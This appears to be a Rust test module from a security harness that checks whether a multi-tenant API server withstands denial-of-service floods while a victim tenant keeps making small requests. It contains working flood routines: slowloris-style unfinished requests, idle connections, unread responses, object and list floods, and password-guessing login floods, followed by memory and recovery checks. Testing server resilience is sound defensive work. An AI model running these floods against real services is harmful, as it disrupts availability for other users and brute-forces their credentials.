//! C6: much of everything, for a while; meanwhile another tenant asks for one small thing again and again.

use std::{
    future::pending,
    path::Path,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use futures::future::BoxFuture;
use serde_json::json;
use tokio::{io::AsyncWriteExt, task::JoinSet};

use super::{
    findings::Findings,
    stage::Stage,
    wire::{self, Wire},
};

const CONFIG_MAPS: &str = "/api/v1/namespaces/default/configmaps";
const TOKENS: &str = "/identity/v3/auth/tokens";
/// An operation of the victim that takes longer has not finished.
const PATIENCE: Duration = Duration::from_secs(10);
/// How much more than before the server may have resident.
const MEMORY: u64 = 256 << 20;
/// How long after a flood the server may need to be as it was.
const RECOVERY: Duration = Duration::from_secs(60);
pub(super) const VICTIM: u8 = 1;

/// What a flood is made with.
#[derive(Clone)]
struct Attacker {
    wire: Wire,
    /// 127.0.0.x
    source: u8,
    /// A member of the flooding tenant; of nobody, where the flood needs none.
    authorization: Option<String>,
    /// A user of the victim's tenant, whose password it guesses.
    victim: String,
    worker: usize,
}

pub(super) struct Flood {
    pub what: &'static str,
    source: u8,
    pub is_member: bool,
    /// At once.
    workers: usize,
    run: fn(Attacker) -> BoxFuture<'static, ()>,
}

impl Flood {
    pub fn start(&self, attackers: &mut JoinSet<()>, wire: &Wire, authorization: Option<&String>, victim: &str) {
        for worker in 0..self.workers {
            attackers.spawn((self.run)(Attacker {
                wire: wire.clone(),
                source: self.source,
                authorization: authorization.filter(|_| self.is_member).cloned(),
                victim: victim.to_owned(),
                worker,
            }));
        }
    }
}

pub(super) const FLOODS: &[Flood] = &[
    Flood { what: "connections that say nothing", source: 2, is_member: false, workers: 8, run: |a| Box::pin(idle(a)) },
    Flood {
        what: "heads of requests that do not end",
        source: 3,
        is_member: false,
        workers: 8,
        run: |a| Box::pin(half_heads(a)),
    },
    Flood {
        what: "bodies that do not end, of nobody",
        source: 4,
        is_member: false,
        workers: 8,
        run: |a| Box::pin(half_bodies(a)),
    },
    Flood {
        what: "bodies that do not end, of a member",
        source: 5,
        is_member: true,
        workers: 8,
        run: |a| Box::pin(half_bodies(a)),
    },
    Flood {
        what: "answers that nobody reads",
        source: 6,
        is_member: true,
        workers: 8,
        run: |a| Box::pin(unread(a, "/openapi/v3/api/v1")),
    },
    Flood { what: "watches that nobody reads", source: 7, is_member: true, workers: 8, run: |a| Box::pin(watches(a)) },
    Flood { what: "large objects", source: 8, is_member: true, workers: 4, run: |a| Box::pin(objects(a, 900 << 10)) },
    Flood { what: "many objects", source: 9, is_member: true, workers: 8, run: |a| Box::pin(objects(a, 10)) },
    // Of what those before have left.
    Flood {
        what: "lists that nobody reads",
        source: 11,
        is_member: true,
        workers: 8,
        run: |a| Box::pin(unread(a, CONFIG_MAPS)),
    },
    Flood {
        what: "lists of what nobody has, one after the other",
        source: 12,
        is_member: true,
        workers: 8,
        run: |a| Box::pin(lists(a)),
    },
    Flood { what: "logins that fail", source: 10, is_member: false, workers: 16, run: |a| Box::pin(logins(a)) },
];

pub async fn run(stage: &Stage, findings: &mut Findings) -> Result<()> {
    raise_file_limit();
    let wire = Wire::new(&stage.address, &stage.authority)?;
    make_wanted(stage).await?;
    let pid = server(&stage.root);
    let idle = pid.and_then(resident);
    if idle.is_none() {
        findings.could_not("the server's memory", "it is not a process of this machine");
    }
    for flood in FLOODS {
        let mut attackers = JoinSet::new();
        let victim_name = format!("{}-member", stage.blue.name);
        flood.start(&mut attackers, &wire, stage.flood.member.authorization.as_ref(), &victim_name);
        let watched = victim(stage, &wire, flood.what == "logins that fail").await;
        let largest = pid.and_then(resident);
        attackers.shutdown().await;
        match watched {
            Ok(seen) => findings.held(flood.what, seen),
            Err(error) => findings.succeeded_at(flood.what, format!("{error:#}")),
        }
        if let (Some(idle), Some(largest)) = (idle, largest) {
            let grown = largest.saturating_sub(idle);
            findings.judge(
                &format!("{}, the server's memory", flood.what),
                grown <= MEMORY,
                format!("{} MiB more than before", grown >> 20),
            );
        }
        let well = tokio::time::timeout(RECOVERY, async {
            while ask(stage, &wire).await.is_err() {
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
        });
        findings.judge(&format!("{}, afterwards", flood.what), well.await.is_ok(), "the victim is served");
    }
    Ok(())
}

/// What the victim asks for.
pub(super) async fn make_wanted(stage: &Stage) -> Result<()> {
    let object =
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "wanted"}, "data": {"key": "value"}});
    stage.blue.member.post(CONFIG_MAPS, &object).await.needed("making what the victim asks for").map(drop)
}

/// What the victim's operations took.
async fn victim(stage: &Stage, wire: &Wire, logs_in: bool) -> Result<String> {
    let began = Instant::now();
    let mut took = Vec::new();
    while began.elapsed() < stage.seconds || took.is_empty() {
        let asked = Instant::now();
        ask(stage, wire).await?;
        took.push(asked.elapsed());
        if logs_in {
            let login = tokio::time::timeout(PATIENCE, stage.login(&stage.blue)).await;
            login.context("the victim's login has not finished")?.context("the victim's login")?;
        }
    }
    took.sort_unstable();
    let at = |part: f64| took[((took.len() - 1) as f64 * part) as usize].as_millis();
    Ok(format!(
        "{} requests of the victim, each on a new connection: median {} ms, slowest {} ms",
        took.len(),
        at(0.5),
        at(1.0)
    ))
}

/// One small request on a connection of its own.
pub(super) async fn ask(stage: &Stage, wire: &Wire) -> Result<()> {
    let request =
        wire::request("GET", &format!("{CONFIG_MAPS}/wanted"), stage.blue.member.authorization.as_deref(), "", 0);
    let asking = async {
        let mut stream = wire.tls(VICTIM).await.context("the victim's connection")?;
        wire::exchange(&mut stream, &request).await.context("the victim's request")
    };
    let status = tokio::time::timeout(PATIENCE, asking).await.context("the victim's request has not finished")??;
    anyhow::ensure!(status == 200, "the victim was answered {status}");
    Ok(())
}

/// More descriptors than usual: connections are what floods are made of.
pub(super) fn raise_file_limit() {
    use nix::sys::resource::{Resource, getrlimit, setrlimit};
    if let Ok((_, hard)) = getrlimit(Resource::RLIMIT_NOFILE) {
        let _ = setrlimit(Resource::RLIMIT_NOFILE, hard, hard);
    }
}

/// The server's process, as `up` has recorded it.
fn server(root: &Path) -> Option<u32> {
    std::fs::read_to_string(root.join("run/server.pid")).ok()?.split(' ').next()?.parse().ok()
}

/// Resident memory in bytes.
fn resident(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"))?;
    Some(line.split_whitespace().next()?.parse::<u64>().ok()? << 10)
}

/// What a refused connection costs the attacker.
async fn breathe() {
    tokio::time::sleep(Duration::from_millis(20)).await;
}

/// Makes things and keeps them, at most so many; what cannot be made is tried again.
async fn pile_up<T, F>(attacker: Attacker, most: usize, make: impl Fn(Attacker) -> F)
where
    F: Future<Output = std::io::Result<T>>,
{
    let mut kept = Vec::new();
    while kept.len() < most {
        match make(attacker.clone()).await {
            Ok(thing) => kept.push(thing),
            Err(_) => breathe().await,
        }
    }
    pending::<()>().await;
}

async fn idle(attacker: Attacker) {
    pile_up(attacker, 1500, |attacker| async move { attacker.wire.tcp(attacker.source).await }).await;
}

/// Requests that have been begun, and no more.
async fn begin(attacker: Attacker, text: String) {
    pile_up(attacker, 250, |attacker| {
        let text = text.clone();
        async move {
            let mut stream = attacker.wire.tls(attacker.source).await?;
            stream.write_all(text.as_bytes()).await?;
            stream.flush().await?;
            Ok(stream)
        }
    })
    .await;
}

async fn half_heads(attacker: Attacker) {
    begin(attacker, "GET /version HTTP/1.1\r\nhost: attack\r\nx-long: ".into()).await;
}

async fn half_bodies(attacker: Attacker) {
    let text = wire::request("POST", CONFIG_MAPS, attacker.authorization.as_deref(), "{\"kind\":", 1 << 20);
    begin(attacker, text).await;
}

async fn watches(attacker: Attacker) {
    let text = wire::request("GET", &format!("{CONFIG_MAPS}?watch=true"), attacker.authorization.as_deref(), "", 0);
    begin(attacker, text).await;
}

async fn unread(attacker: Attacker, path: &'static str) {
    let one = wire::request("GET", path, attacker.authorization.as_deref(), "", 0);
    let many = one.repeat(64);
    pile_up(attacker, 50, |attacker| {
        let many = many.clone();
        async move {
            let mut stream = attacker.wire.tls(attacker.source).await?;
            // Until it does not take more.
            let _ = tokio::time::timeout(Duration::from_millis(500), stream.write_all(many.as_bytes())).await;
            Ok(stream)
        }
    })
    .await;
}

/// Requests one after the other, on a connection that is made again when it ends.
async fn repeat(attacker: &Attacker, mut request: impl FnMut(usize) -> String) {
    let mut number = 0;
    loop {
        let Ok(mut stream) = attacker.wire.tls(attacker.source).await else {
            breathe().await;
            continue;
        };
        while wire::exchange(&mut stream, &request(number)).await.is_ok() {
            number += 1;
        }
    }
}

async fn objects(attacker: Attacker, bytes: usize) {
    let filling = "x".repeat(bytes);
    repeat(&attacker, |number| {
        let name = format!("flood-{bytes}-{}-{number}", attacker.worker);
        let object =
            json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}, "data": {"key": filling}});
        let body = object.to_string();
        wire::request("POST", CONFIG_MAPS, attacker.authorization.as_deref(), &body, body.len())
    })
    .await;
}

/// Each goes through all that the tenant has.
async fn lists(attacker: Attacker) {
    let path = format!("{CONFIG_MAPS}?labelSelector=nobody%3Dhas");
    repeat(&attacker, |_| wire::request("GET", &path, attacker.authorization.as_deref(), "", 0)).await;
}

/// Half of the workers guess the victim's password, the others log in as nobody.
async fn logins(attacker: Attacker) {
    repeat(&attacker, |number| {
        let nobody = format!("nobody-{number}");
        let name = if attacker.worker.is_multiple_of(2) { &attacker.victim } else { &nobody };
        let user = json!({"name": name, "domain": {"id": "default"}, "password": format!("guess-{number}")});
        let body = json!({"auth": {"identity": {"methods": ["password"], "password": {"user": user}}}}).to_string();
        wire::request("POST", TOKENS, None, &body, body.len())
    })
    .await;
}
